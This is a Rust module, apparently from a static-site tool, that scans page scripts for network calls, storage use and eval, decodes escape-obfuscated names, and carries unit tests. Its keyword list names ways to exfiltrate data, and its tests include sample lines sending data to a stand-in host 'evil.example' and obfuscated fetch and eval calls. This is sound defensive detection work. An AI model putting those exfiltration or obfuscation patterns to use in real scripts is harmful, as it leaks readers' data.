//! Reads what a script could do with a reader's data.
//!
//! A reading of words cannot prove what a program does; the policy that every page carries stops
//! what this misses. What this finds, an author learns before a browser refuses it.

/// Words of a script that call somebody, keep something, or run text as code.
const WORDS: [&str; 36] = [
    "fetch",
    "fetchLater",
    "XMLHttpRequest",
    "WebSocket",
    "WebTransport",
    "EventSource",
    "sendBeacon",
    "RTCPeerConnection",
    "webkitRTCPeerConnection",
    "PushManager",
    "geolocation",
    "mediaDevices",
    "serviceWorker",
    "SharedWorker",
    "Worker",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "openDatabase",
    "getDirectory",
    "requestFileSystem",
    "webkitRequestFileSystem",
    "showSaveFilePicker",
    "cookie",
    "cookieStore",
    "caches",
    "BroadcastChannel",
    "eval",
    "Function",
    "GeneratorFunction",
    "AsyncFunction",
    "WebAssembly",
    "createContextualFragment",
    "srcdoc",
    "import",
    "importScripts",
];

/// The words of the list that a script uses, and addresses of other hosts.
pub(super) fn calls(script: &str) -> Vec<String> {
    if is_data(script) {
        return Vec::new();
    }
    let code = without_escapes(&without_comments(script));
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$');
    let mut calls: Vec<String> = code
        .split(|c| !is_part(c))
        .filter(|word| WORDS.contains(word))
        .map(str::to_owned)
        .collect();
    for scheme in ["http:", "https:", "ws:", "wss:", "data:", "javascript:"] {
        if code.contains(scheme) {
            calls.push(scheme.to_owned());
        }
    }
    if ["'//", "\"//", "`//"].iter().any(|start| code.contains(start)) {
        calls.push("//".to_owned());
    }
    calls
}

/// Whether the script does no more than hand JSON to a function of the site: its words are data.
fn is_data(script: &str) -> bool {
    let name = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_alphabetic());
    script
        .trim_end()
        .strip_suffix(");")
        .and_then(|call| call.split_once('('))
        .filter(|(function, _)| name(function) && !WORDS.contains(function))
        .is_some_and(|(_, json)| serde_json::from_str::<serde::de::IgnoredAny>(json).is_ok())
}

/// The script with its numbered characters as themselves, so that `\u0066etch` hides nothing.
fn without_escapes(code: &str) -> String {
    let mut plain = String::with_capacity(code.len());
    let mut rest = code;
    while let Some((before, after)) = rest.split_once('\\') {
        plain.push_str(before);
        match numbered(after) {
            Some((character, tail)) => {
                plain.push(character);
                rest = tail;
            }
            None => {
                plain.push('\\');
                rest = after;
            }
        }
    }
    plain.push_str(rest);
    plain
}

/// The character of `u0066`, `u{66}` or `x66`, and what follows it.
fn numbered(text: &str) -> Option<(char, &str)> {
    let (digits, tail) = match text.strip_prefix("u{") {
        Some(open) => open.split_once('}')?,
        None => match text.strip_prefix('u') {
            Some(four) => four.split_at_checked(4)?,
            None => text.strip_prefix('x')?.split_at_checked(2)?,
        },
    };
    Some((char::from_u32(u32::from_str_radix(digits, 16).ok()?)?, tail))
}

/// The script without its comments; strings are kept whole.
fn without_comments(script: &str) -> String {
    let mut code = String::with_capacity(script.len());
    let mut rest = script.chars().peekable();
    let mut quote = None;
    while let Some(c) = rest.next() {
        match (quote, c) {
            (Some(open), _) => {
                code.push(c);
                if c == '\\' {
                    code.extend(rest.next());
                } else if c == open {
                    quote = None;
                }
            }
            (None, '/') if rest.peek() == Some(&'/') => {
                rest.by_ref().find(|c| *c == '\n');
                code.push('\n');
            }
            (None, '/') if rest.peek() == Some(&'*') => {
                rest.next();
                let mut last = ' ';
                for c in rest.by_ref() {
                    if last == '*' && c == '/' {
                        break;
                    }
                    last = c;
                }
                code.push(' ');
            }
            (None, _) => {
                if matches!(c, '"' | '\'' | '`') {
                    quote = Some(c);
                }
                code.push(c);
            }
        }
    }
    code
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_honest_script_passes() {
        let script = "// never fetch() anything, see https://example.org\nconst way = document.getElementById('exit');\n/* no cookie */ way.addEventListener('click', (event) => { location.replace(way.href); });";
        assert_eq!(calls(script), Vec::<String>::new());
    }

    #[test]
    fn data_may_speak_of_anything_but_do_nothing() {
        let data = "handbillIndex([[[\"no cookie, no fetch(): https://\"]]]);\n";
        assert_eq!(calls(data), Vec::<String>::new());
        for code in ["eval([\"x\"]);", "handbillIndex([fetch(1)]);", "a([1]);fetch([2]);"] {
            assert!(!calls(code).is_empty(), "{code}");
        }
    }

    #[test]
    fn calls_and_storage_are_found() {
        for script in [
            "fetch('a.json')",
            "window['localStorage'].x = 1",
            "const a = '//evil.example/';",
            "navigator.sendBeacon(x)",
            "document.cookie = 'a=b'",
            "await import('./b.js')",
            "new Image().src = 'https://evil.example/?' + x",
            "'it\\'s // no comment'; eval(x)",
            "\\u0066etch('a.json')",
            "window['\\x65val'](x)",
            "w\\u{65}b = 1; \\u{63}ookie = 2",
            "new WebSocket(a)",
            "new XMLHttpRequest",
            "navigator.storage.getDirectory()",
            "openDatabase('x')",
            "navigator.serviceWorker.register('a.js')",
        ] {
            assert!(!calls(script).is_empty(), "{script}");
        }
    }
}
